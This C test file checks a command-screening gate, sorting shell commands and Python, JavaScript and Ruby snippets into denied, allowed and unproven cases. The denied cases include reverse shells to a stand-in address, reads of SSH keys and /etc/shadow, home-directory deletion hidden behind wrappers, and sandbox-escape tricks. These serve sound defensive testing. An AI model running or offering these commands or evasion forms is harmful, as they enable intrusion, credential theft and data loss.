/* SPDX-License-Identifier: Apache-2.0 */
/* Ways around a rule: the same deed by other means, and everyday work that looks like it. */
#include "gate_case.h"

static void redirections_belong_to_what_a_wrapper_runs(void **state)
{
	static const struct gate_case cases[] = {
		DENY("exec bash -i &>/dev/tcp/192.0.2.1/99 <&1", "reverse-shell"),
		DENY("nohup sh > /dev/tcp/192.0.2.1/99", "reverse-shell"),
		DENY("while read -r l; do echo \"$l\"; done < ~/.ssh/id_rsa", "read-secret"),
		DENY("echo \"$(< ~/.ssh/id_rsa)\"", "read-secret"),
		DENY("curl file:///etc/shadow", "read-secret"),
		DENY("newtool @/etc/shadow", "read-secret"),
		DENY("newtool --in=/etc/shadow", "read-secret"),
		DENY("cat ~/.s?h/id_r*", "read-secret"),
		ALLOW("while read -r l; do echo \"$l\"; done < list.txt"),
		ALLOW("x=$(< version.txt)"),
		ALLOW("newtool --in=src/shadow"),
		ALLOW("newtool https://example.com/etc/shadow"),
		ALLOW("cat .gitignor?"),
	};
	CHECK(cases);
	(void)state;
}

static void variables_reach_what_is_run(void **state)
{
	static const struct gate_case cases[] = {
		DENY("sudo D=/etc sh -c 'rm -rf \"$D\"'", "delete-vital"),
		DENY("env LD_PRELOAD=/tmp/x.so ls", "preload"),
		DENY("x='$(rm -rf ~)'; echo \"${x@P}\"", "delete-vital"),
		UNPROVEN("echo \"${x@P}\"", "dynamic-code"),
		UNPROVEN("declare -n r=x; $r -rf", "dynamic-command"),
		ALLOW("env A=1 ls"),
		ALLOW("sudo D=build sh -c 'rm -rf \"$D\"'; D=/etc"),
		ALLOW("declare -i n=1; echo \"$n\""),
		ALLOW("echo \"${x@Q}\""),
	};
	CHECK(cases);
	(void)state;
}

static void the_order_of_words_counts(void **state)
{
	static const struct gate_case cases[] = {
		DENY("find . -delete -name '*.pyc'", "delete-vital"),
		DENY("find . -exec rm -rf {} + -name x", "delete-vital"),
		ALLOW("find . -name '*.pyc' -delete"),
		DENY("ssh host <<'E'\nrm -rf /var/lib/mysql\nE\n", "delete-system"),
		DENY("echo 'rm -rf /' | ssh host", "delete-vital"),
		ALLOW("ssh host <<'E'\nuptime\nE\n"),
		ALLOW("echo 'rm -rf /' | ssh host cat"),
	};
	CHECK(cases);
	(void)state;
}

static void loops_are_counted(void **state)
{
	static const struct gate_case cases[] = {
		UNPROVEN("for i in {1..1000000}; do touch f$i; done", "spin"),
		UNPROVEN("for i in $(seq 1 100000); do mkdir d$i; done", "spin"),
		UNPROVEN("for ((i = 0; i < 9000000; i++)); do x; done", "spin"),
		UNPROVEN("for i in $(seq 5000); do x & done", "spin"),
		UNPROVEN("f() { f; }; f", "spin"),
		ALLOW("for i in {1..100}; do touch f$i; done"),
		ALLOW("for i in $(seq 20); do x & done; wait"),
		ALLOW("for i in {1..100000}; do x; sleep 1; done"),
		ALLOW("f() { [ -d \"$1\" ] && f \"$1/x\"; }; f a"),
		ALLOW("f() { if [ \"$1\" ]; then f; fi; }; f"),
	};
	CHECK(cases);
	(void)state;
}

static void a_shell_is_a_shell_whoever_starts_it(void **state)
{
	static const struct gate_case cases[] = {
		UNPROVEN("newtool --hook /bin/sh", "shell-argument"),
		UNPROVEN("newtool -o 'Command=/bin/bash -i'", "shell-argument"),
		UNPROVEN("nice /bin/sh", "shell-wrapped"),
		UNPROVEN("rg --pre 'sh -c id' x", "command-option"),
		UNPROVEN("psql -c '\\! x'", "client-escape"),
		UNPROVEN("lua5.4 -e 'x'", "interpreter-text"),
		ALLOW("docker run -it alpine /bin/sh"),
		ALLOW("make SHELL=/bin/bash"),
		ALLOW("ls -- *"),
		ALLOW("lua5.4 x.lua"),
	};
	CHECK(cases);
	(void)state;
}

static void whoever_runs_a_command_runs_that_command(void **state)
{
	static const struct gate_case cases[] = {
		DENY("newrunner --verbose rm -rf ~", "delete-vital"),
		DENY("newrunner --exec='rm -rf ~'", "delete-vital"),
		DENY("newrunner -- /bin/rm -rf ~", "delete-vital"),
		DENY("screen -dm rm -rf ~", "delete-vital"),
		DENY("poetry run rm -rf ~", "delete-vital"),
		DENY("npm exec -- rm -rf ~", "delete-vital"),
		DENY("taskset -c 0 rm -rf ~", "delete-vital"),
		DENY("taskset 1 rm -rf ~", "delete-vital"),
		DENY("ip netns exec x rm -rf ~", "delete-vital"),
		DENY("git submodule foreach rm -rf ~", "delete-vital"),
		DENY("ssh host -t rm -rf /var/lib", "delete-vital"),
		DENY("docker exec web rm -rf /var/lib", "delete-vital"),
		ALLOW("newrunner rm build/x"),
		ALLOW("notify-send 'rm -rf ~'"),
		ALLOW("newtool --message 'do not rm -rf ~'"),
		ALLOW("poetry run pytest"),
		ALLOW("docker exec web ls"),
	};
	CHECK(cases);
	(void)state;
}

static void code_is_known_by_what_it_reaches(void **state)
{
	static const struct gate_case python[] = {
		DENY("import random\nrandom._os.system('id')", "subprocess"),
		DENY("import warnings\nwarnings.sys.modules['os'].popen('id')", "subprocess"),
		DENY("def g(): pass\ng().gi_frame.f_builtins['eval']('1')", "reflection"),
		DENY("import os\nopen(os.path.join(os.environ['HOME'], '.profile'), 'a')", "files-outside"),
		UNPROVEN("import os\nopen(os.path.join(os.getcwd(), *parts))", "files-outside"),
		UNPROVEN("anything.at_all('/etc/shadow')", "named-outside"),
		UNPROVEN("x = []\nwhile True: x.append(1)", "endless-loop"),
		UNPROVEN("x = 'a' * 10**12", "huge-value"),
		UNPROVEN("x = [0] * (1 << 40)", "huge-value"),
		DENY("import glob, os\nfor f in glob.glob('**/*'): os.remove(f)", "delete-outside"),
		ALLOW("print('/etc/shadow')"),
		ALLOW("while True:\n    if x(): break"),
		ALLOW("x = 'a' * 1000"),
		ALLOW("mod = 10**9 + 7\nx = [0] * 10**6"),
		ALLOW("import glob, os\nfor f in glob.glob('build/*.o'): os.remove(f)"),
	};
	static const struct gate_case javascript[] = {
		UNPROVEN("for (;;) a.push(1);", "endless-loop"),
		UNPROVEN("console.log(process.env);", "environment-read"),
		ALLOW("for (let i = 0; i < 3; i++) f(i);"),
		ALLOW("console.log(process.env.TZ);"),
	};
	static const struct gate_case ruby[] = {
		UNPROVEN("loop { a << 1 }", "endless-loop"),
		DENY("Dir.glob('*').each { |f| File.delete(f) }", "delete-outside"),
		ALLOW("loop { break if x }"),
		ALLOW("Dir.glob('tmp/*.log').each { |f| File.delete(f) }"),
	};
	struct gate *none = open_with(0);
	check_cases(none, GATE_PYTHON, python, ARRAY_SIZE(python));
	check_cases(none, GATE_JAVASCRIPT, javascript, ARRAY_SIZE(javascript));
	check_cases(none, GATE_RUBY, ruby, ARRAY_SIZE(ruby));
	gate_close(none);
	(void)state;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(redirections_belong_to_what_a_wrapper_runs),
		cmocka_unit_test(variables_reach_what_is_run),
		cmocka_unit_test(the_order_of_words_counts),
		cmocka_unit_test(loops_are_counted),
		cmocka_unit_test(a_shell_is_a_shell_whoever_starts_it),
		cmocka_unit_test(whoever_runs_a_command_runs_that_command),
		cmocka_unit_test(code_is_known_by_what_it_reaches),
	};
	return cmocka_run_group_tests(tests, open_gate, close_gate);
}
